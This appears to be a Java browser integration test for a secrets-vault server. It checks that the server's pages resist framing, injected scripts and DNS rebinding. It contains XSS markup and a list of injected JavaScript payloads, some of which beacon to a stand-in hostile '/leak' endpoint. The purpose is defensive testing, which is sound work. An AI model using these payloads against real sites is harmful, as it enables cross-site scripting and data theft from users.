package com.fyvault.proofs.pages;

import static org.assertj.core.api.Assertions.assertThat;

import com.fyvault.proofs.pages.FrontDoor.Walls;
import com.fyvault.proofs.pages.HostileSite.From;
import com.fyvault.support.Figures;
import com.fyvault.support.ServerTest;
import com.fyvault.support.Tab;
import com.fyvault.support.TestPeople;
import com.fyvault.tokens.Role;
import io.vertx.core.json.JsonObject;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledIf;

/** T43: the server's own pages in a real browser: in frames, with scripts put into them, and under a hostile name. */
@EnabledIf(
        value = "com.fyvault.support.Chromium#isWanted",
        disabledReason = "needs /usr/bin/chromium, and takes its time: only with -Pproofs")
class OwnPagesInChromiumIT extends ServerTest {
    private static final String MARKUP = "<script>window.hit=1</script><img src=x onerror='window.hit=1'>";

    /** What a script that got into a page would begin with; each sets {@code window.hit} or reaches the hostile site. */
    private static final List<String> INJECTED = List.of(
            "const s = document.createElement('script'); s.textContent = 'window.hit = 1'; document.body.append(s)",
            "document.body.insertAdjacentHTML('beforeend', '<img src=data:x onerror=\"window.hit = 1\">')",
            "document.body.insertAdjacentHTML('beforeend', '<details open ontoggle=\"window.hit = 1\"></details>')",
            "const a = document.createElement('a'); a.href = 'javascript:void(window.hit = 1)'; document.body.append(a);"
                    + " a.click()",
            "try { window.eval('window.hit = 1') } catch (e) { }",
            "setTimeout('window.hit = 1')",
            "const s = document.createElement('script'); s.src = 'data:text/javascript,window.hit = 1';"
                    + " document.body.append(s)",
            "const s = document.createElement('script'); s.src = '$HOSTILE/leak'; document.body.append(s)",
            "fetch('$HOSTILE/leak', {mode: 'no-cors'}).catch(e => e)",
            "new Image().src = '$HOSTILE/leak'",
            "navigator.sendBeacon('$HOSTILE/leak')",
            "const f = document.createElement('iframe'); f.src = '$HOSTILE/leak'; document.body.append(f)",
            "document.body.insertAdjacentHTML('beforeend', '<form id=leak method=post action=$HOSTILE/leak></form>');"
                    + " document.getElementById('leak').submit()",
            "document.head.insertAdjacentHTML('beforeend', '<base href=$HOSTILE/>');"
                    + " const s = document.createElement('script'); s.src = 'leak'; document.body.append(s)");

    private Visit visit;

    @BeforeAll
    void meet() {
        TestPeople people = new TestPeople(server);
        people.join(people.plant(Visit.EMAIL, TestPeople.hash()), server.orgId(), Role.OWNER);
        server.createSecret("KEPT", Visit.VALUE);
        JsonObject signUp = new JsonObject()
                .put("email", "bob@example.com")
                .put("password", TestPeople.PASSWORD)
                .put("name", MARKUP)
                .put("organization", MARKUP);
        assertThat(people.post("/auth/signup", signUp).status()).isEqualTo(202);
        visit = new Visit(server);
    }

    @AfterAll
    void leave() {
        if (visit != null) {
            visit.close();
        }
    }

    /** The pages that the server has; the one with mails is there under the machine's own name only. */
    private List<String> pages() {
        return List.of(visit.door.origin() + "/docs", "http://localhost:" + visit.door.port() + "/dev/outbox");
    }

    private List<String> framed(Walls walls) {
        visit.door.put(walls);
        List<String> framed = new ArrayList<>();
        for (String page : pages()) {
            for (String host : List.of("evil.localhost", "evil.fyvault.localhost", FrontDoor.NAME, "localhost")) {
                try (Tab tab = visit.visitor()) {
                    tab.visit(visit.hostile.origin(host) + visit.hostile.put("<iframe src='" + page + "'></iframe>"));
                    if (tab.frames().contains(page)) {
                        framed.add(host + " " + page);
                    }
                }
            }
        }
        return framed;
    }

    @Test
    void noPageIsShownInAFrame() {
        List<String> framed = framed(Walls.UP);
        Figures.print(new Figures.Line("T43", "own pages in frames of others", 8, 8, framed.size(), ""));
        assertThat(framed).isEmpty();
        try {
            assertThat(framed(Walls.DOWN)).hasSize(8);
        } finally {
            visit.door.put(Walls.UP);
        }
    }

    /** True when what was put into the page came to something. */
    private boolean acts(Tab tab, String page, String script) {
        tab.visit(page);
        int leaks = visit.hostile.leaks.get();
        String hostile = visit.hostile.origin(From.OTHER_SITE);
        String _ = tab.run("(() => { " + script.replace("$HOSTILE", hostile) + " })()");
        String hit = tab.run("new Promise(done => setTimeout(() => done(String(window.hit)), 250))");
        return hit.equals("1") || visit.hostile.leaks.get() > leaks;
    }

    @Test
    void whatIsPutIntoAPageDoesNotRun() {
        List<String> acted = new ArrayList<>();
        int tried = 0;
        try (Tab tab = visit.visitor()) {
            for (String page : pages()) {
                tab.visit(page);
                // What was there already: the mails' own text.
                assertThat(tab.run("String(window.hit)")).isEqualTo("undefined");
                for (String script : INJECTED) {
                    tried++;
                    if (acts(tab, page, script)) {
                        acted.add(page + " " + script);
                    }
                }
            }
            tab.visit(pages().get(1));
            assertThat(tab.text()).contains("bob@example.com");
            Figures.print(new Figures.Line("T43", "scripts put into own pages", tried, tried, acted.size(), ""));
            assertThat(acted).isEmpty();
            // Control: in a page without a policy each of them does something.
            String bare = visit.hostile.origin(From.SIBLING) + visit.hostile.put("");
            assertThat(INJECTED).allMatch(script -> acts(tab, bare, script));
        }
    }

    /** A name of the attacker's that leads to this machine: to the browser the server is then the attacker's own. */
    @Test
    void aNameThatWasReboundShowsNothing() {
        String org = "/api/v1/orgs/" + server.orgId();
        List<String> paths = List.of(
                "/dev/outbox", "/api/v1/users/me", "/api/v1/auth/me/orgs", org, org + "/secrets/by-name/KEPT/value");
        try (Tab tab = visit.loggedIn(Walls.UP)) {
            String rebound = "http://rebound.example:" + visit.door.port();
            List<String> shown = new ArrayList<>();
            int mark = visit.door.mark();
            tab.visit(rebound + "/docs");
            for (String path : paths) {
                String answer = tab.run("fetch('" + path + "').then(a => '' + a.status)");
                if (!List.of("401", "404").contains(answer)) {
                    shown.add(path + " " + answer);
                }
            }
            String login = tab.run("fetch('/api/v1/auth/login', {method: 'POST', headers: {'content-type':"
                    + " 'application/json'}, body: JSON.stringify({email: '" + Visit.EMAIL + "', password: '"
                    + TestPeople.PASSWORD + "', cookie: true})}).then(a => '' + a.status)");
            // With the password anybody gets in; a cookie for such a name the browser does not take.
            assertThat(login).isEqualTo("200");
            assertThat(tab.run("fetch('/api/v1/users/me').then(a => '' + a.status)"))
                    .isEqualTo("401");
            int asked = visit.door.since(mark).size();
            Figures.print(
                    new Figures.Line("T43", "under a name that was rebound", paths.size(), asked, shown.size(), ""));
            assertThat(shown).isEmpty();
            assertThat(visit.door.since(mark)).noneMatch(FrontDoor.Seen::hasLogin);
            // Control: under its own name the same browser sees all of it.
            tab.visit(visit.door.origin() + "/docs");
            for (String path : paths.subList(1, paths.size())) {
                assertThat(tab.run("fetch('" + path + "').then(a => '' + a.status)"))
                        .isEqualTo("200");
            }
            tab.visit("http://localhost:" + visit.door.port() + "/dev/outbox");
            assertThat(tab.text()).contains("bob@example.com");
        }
    }
}
